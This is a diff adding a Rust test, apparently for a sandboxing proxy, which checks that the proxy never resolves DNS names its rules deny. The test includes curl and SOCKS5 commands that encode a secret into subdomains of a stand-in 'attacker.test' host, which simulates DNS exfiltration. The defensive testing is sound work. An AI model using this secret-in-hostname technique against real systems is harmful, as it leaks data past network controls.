@@ -2462,6 +2462,72 @@ fn proxy_connects_only_to_the_address_it_checked() {
     );
 }
 
+/// DNS exfiltration through the proxy (CVE-2025-55284 class): a secret encoded in a name the
+/// rules refuse never reaches a DNS server, because the proxy checks the rules before it
+/// resolves anything (HTTP, CONNECT and SOCKS5 alike). Control: the same requests under a rule
+/// that allows those names do reach the test resolver (resolv.conf's server), so a query would
+/// have been seen.
+#[test]
+fn proxy_resolves_no_name_its_rules_refuse() {
+    let Some((k, net)) = test_net("DNS exfiltration through the proxy") else {
+        return;
+    };
+    let dns = net.dns();
+    let pre = net.prefix(&k.fx, TEST_HOSTS);
+    let secret = format!("secret-{}", k.fx.id);
+    let script = |tag: &str| {
+        format!(
+            "{}; {}; {}; true",
+            curl(&format!("http://{secret}-{tag}-h.attacker.test/")),
+            curl(&format!("https://{secret}-{tag}-c.attacker.test/")),
+            k.client(&format!(
+                "socks5 {PROXY_PORT} {secret}-{tag}-s.attacker.test 80 plain /"
+            )),
+        )
+    };
+    let rec = k.fx.records();
+    let out =
+        k.fx.attack(
+            &strs(&opts(
+                Some(&rec),
+                &["--net", "proxy", "--allow-domain", "allowed.test"],
+            )),
+            &script("deny"),
+        )
+        .under(&pre)
+        .outcome();
+    out.assert_ok();
+    assert_denied(
+        &rec,
+        &out.run,
+        "http",
+        &format!("{secret}-deny-h.attacker.test"),
+        80,
+        true,
+    );
+    settle();
+    assert_eq!(
+        dns.count(),
+        0,
+        "the proxy resolved a name its rules refuse\n{}",
+        out.run.describe()
+    );
+    k.fx.attack(
+        &["--net", "proxy", "--allow-domain", "*.attacker.test"],
+        &script("allow"),
+    )
+    .under(&pre)
+    .outcome()
+    .assert_ok();
+    settle();
+    for kind in ["h", "c", "s"] {
+        assert!(
+            dns.saw(&format!("{secret}-allow-{kind}")),
+            "the control's {kind} request did not reach the test resolver"
+        );
+    }
+}
+
 /// Every name of [`TEST_HOSTS`] resolves in the private hosts file and not on the host
 /// (the test never touches the real /etc/hosts).
 #[test]
